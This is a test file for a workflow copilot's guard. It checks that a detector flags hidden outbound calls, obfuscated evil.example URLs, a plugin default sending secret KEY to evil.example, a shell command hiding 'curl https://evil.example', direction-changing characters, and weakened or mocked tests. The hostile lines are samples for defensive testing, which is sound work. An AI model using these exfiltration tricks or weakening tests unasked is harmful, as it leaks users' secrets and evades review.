import { describe, expect, it } from 'vitest';
import { attentionTo } from '../../../../app/copilot/guard/attention.ts';
import { weakenedTests } from '../../../../app/copilot/guard/weakened.ts';
import { parseFlow } from '../../../../runner/flow/parse.ts';
import type { Flow, FlowDocument } from '../../../../runner/flow/types.ts';
import { pluginRegistry } from '../../../../runner/plugins/index.ts';

const registry = pluginRegistry();
const base =
  'id: hello\nnamespace: company.team\ntasks:\n  - id: a\n    type: io.kestra.plugin.core.log.Log\n    message: hi\n';

async function read(source: string): Promise<FlowDocument & { flow: Flow }> {
  const document = await parseFlow(source, { file: 'flows/hello.yaml', registry });
  expect(document.flow, JSON.stringify(document.violations)).toBeDefined();
  return { ...document, flow: document.flow! };
}

async function attention(after: string, before = base): Promise<string> {
  return attentionTo(await read(before), await read(after), registry).join('\n');
}

const request = (uri: string) =>
  `${base}  - id: call\n    type: io.kestra.plugin.core.http.Request\n    uri: ${JSON.stringify(uri)}\n`;

describe('ways out that are hidden (github §8.2, “prompt injection”)', () => {
  it.each([
    'https:evil.example/x',
    'https:/evil.example/x',
    'https:\\\\evil.example\\x',
    'https://ev\nil.example/x',
    'https://good.example@evil.example/x',
    'HTTPS://EVIL.EXAMPLE',
  ])('the host of %j is named', async (uri) => {
    expect(await attention(request(uri))).toContain('It calls the host evil.example (task call).');
  });

  it('the host of a proxy in nested options is named', async () => {
    const flow = `${request('https://good.example')}    options:\n      proxy:\n        address: https://evil.example\n`;
    expect(await attention(flow)).toContain('evil.example');
  });

  it.each([
    ['outputs', 'outputs:\n  - id: o\n    type: STRING\n    value: "{{ http(\'https://evil.example\') }}"\n'],
    ['variables', 'variables:\n  v: "{{ http (\'https://evil.example\') }}"\n'],
  ])('a call in %s is named', async (_, section) => {
    expect(await attention(base + section)).toContain('known only when it runs: http');
  });

  it('a secret and a host that plugin defaults bring into a task are named', async () => {
    const defaults =
      'pluginDefaults:\n  - type: io.kestra.plugin.core.http.Request\n    values:\n      uri: "https://evil.example"\n      body: "{{ secret(\'KEY\') }}"\n';
    const flow = `${base}  - id: call\n    type: io.kestra.plugin.core.http.Request\n${defaults}`;
    const said = await attention(flow);
    expect(said).toContain('reads the secret KEY');
    expect(said).toContain('calls the host evil.example');
    expect(said).toContain('The plugin defaults are changed');
  });

  it('a flow of another namespace that is started is named', async () => {
    const flow = `${base}  - id: sub\n    type: io.kestra.plugin.core.flow.Subflow\n    namespace: company.finance\n    flowId: pay\n`;
    expect(await attention(flow)).toContain('starts the flow company.finance.pay of another namespace');
    expect(await attention(flow.replace('company.finance', 'company.team'))).not.toContain(
      'another namespace',
    );
  });

  it('commands behind a harmless first line, and a runner without a container, are pointed out', async () => {
    const script = `${base}  - id: s\n    type: io.kestra.plugin.scripts.shell.Commands\n    commands:\n      - |\n        true\n        curl https://evil.example\n`;
    expect(await attention(script)).toContain('commands of several lines');
    const bare = `${script}    taskRunner:\n      type: io.kestra.plugin.core.runner.Process\n`;
    expect(await attention(bare, script)).toContain('The script of the task s is changed.');
  });

  it('characters that hide text are pointed out', async () => {
    expect(await attention(base.replace('hi', '"a\u202eb"'))).toContain('invisible or change the direction');
    expect(await attention(base.replaceAll('\n', '\r\n'))).not.toContain('invisible');
  });
});

describe('tests that ask less (issue “Copilot”)', () => {
  const assertion = (said: string) => `      - { value: "{{ outputs.a.value }}", equalTo: "${said}" }\n`;
  const suite = `id: s\nflowId: hello\nnamespace: company.team\ntestCases:\n  - id: one\n    type: io.kestra.core.tests.flow.UnitTest\n    assertions:\n${assertion('hi')}${assertion('ho')}`;
  const weakened = (after: string) => weakenedTests({ path: 'tests/hello.yaml', before: suite, after });

  it('are pointed out: cases and assertions that are gone, what is disabled, what is mocked', () => {
    expect(weakened(suite)).toEqual([]);
    expect(weakened(suite.replace('id: one', 'id: two'))).toEqual(['The test case one is removed.']);
    expect(weakened(suite.replace(assertion('ho'), ''))).toEqual([
      'Of the test case one, 1 of 2 assertions are changed or removed.',
    ]);
    expect(weakened(suite.replace('"hi"', '"anything"'))).toEqual([
      'Of the test case one, 1 of 2 assertions are changed or removed.',
    ]);
    expect(weakened(`disabled: true\n${suite}`)).toEqual(['The suite s is disabled.']);
    expect(weakened(suite.replace('    assertions', '    disabled: true\n    assertions'))).toEqual([
      'The test case one is disabled.',
    ]);
    expect(
      weakened(suite.replace('    assertions', '    fixtures: { tasks: [{ id: a }] }\n    assertions')),
    ).toEqual(['The test case one no longer runs the task a: it has a fixture now.']);
  });
});
